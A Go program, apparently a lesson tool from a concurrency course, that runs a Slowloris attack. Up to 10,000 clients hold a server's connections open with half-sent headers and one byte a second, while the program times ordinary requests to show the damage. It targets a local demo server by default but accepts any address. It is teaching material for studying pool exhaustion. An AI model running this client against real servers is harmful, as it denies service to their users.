// Command slowloris holds a server's connections the slow way: C clients
// each send half a request header and then one more byte a second, and
// reconnect when the server hangs up. Meanwhile it times a few ordinary
// requests, to show what the attack costs everyone else.
//
//	go run ./07-pool-server serve -mode pool          # terminal 1
//	go run ./07-pool-server/slowloris -c 20           # terminal 2
//
// It ends by itself after its tries (about 2 s each), or at Ctrl-C, and
// leaves nothing running.
package main

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"

	"github.com/gocourse/concurrency/internal/lesson"
)

func main() {
	var addr string
	var clients, tries int
	f := lesson.NewFlags("07-pool-server/slowloris", "hold a server's connections with slow headers, and time ordinary requests meanwhile")
	f.StringVar(&addr, "addr", "127.0.0.1:8080", "host:port of the server")
	f.Int(&clients, "c", 20, 1, 10_000, "slow clients")
	f.Int(&tries, "tries", 4, 1, 100, "ordinary requests to time, one every 1.5s")
	f.MustParse(os.Args[1:])

	sigCtx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithCancel(sigCtx)
	var wg sync.WaitGroup
	for range clients {
		wg.Go(func() { slowClient(ctx, addr) })
	}
	fmt.Printf("slowloris: %d slow clients against %s (one header byte a second)\n", clients, addr)
	if sleep(ctx, 2*time.Second) {
		for i := range tries {
			t0 := time.Now()
			status, err := get(ctx, addr)
			took := time.Since(t0).Round(10 * time.Millisecond)
			if err != nil {
				fmt.Printf("  GET /hello %d: %v after %v\n", i+1, err, took)
			} else {
				fmt.Printf("  GET /hello %d: %d after %v\n", i+1, status, took)
			}
			if !sleep(ctx, 1500*time.Millisecond) {
				break
			}
		}
	}
	cancel()
	wg.Wait()
	if sigCtx.Err() != nil {
		fmt.Fprintln(os.Stderr, "07-pool-server/slowloris: interrupted")
		os.Exit(130)
	}
}

// slowClient sends half a header and a byte a second, reconnecting when
// the server hangs up, until ctx ends.
func slowClient(ctx context.Context, addr string) {
	var d net.Dialer
	for ctx.Err() == nil {
		c, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			sleep(ctx, 100*time.Millisecond)
			continue
		}
		stop := context.AfterFunc(ctx, func() { c.Close() })
		_, err = c.Write([]byte("GET /hello HTTP/1.1\r\nX-Slow: "))
		for err == nil && sleep(ctx, time.Second) {
			_, err = c.Write([]byte("a"))
		}
		stop()
		c.Close()
	}
}

func get(ctx context.Context, addr string) (int, error) {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(30 * time.Second))
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	if _, err := c.Write([]byte("GET /hello HTTP/1.1\r\nHost: slowloris\r\nConnection: close\r\n\r\n")); err != nil {
		return 0, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, err
	}
	resp.Body.Close()
	return resp.StatusCode, nil
}

// sleep waits d or until ctx ends; it reports whether the time passed.
func sleep(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}
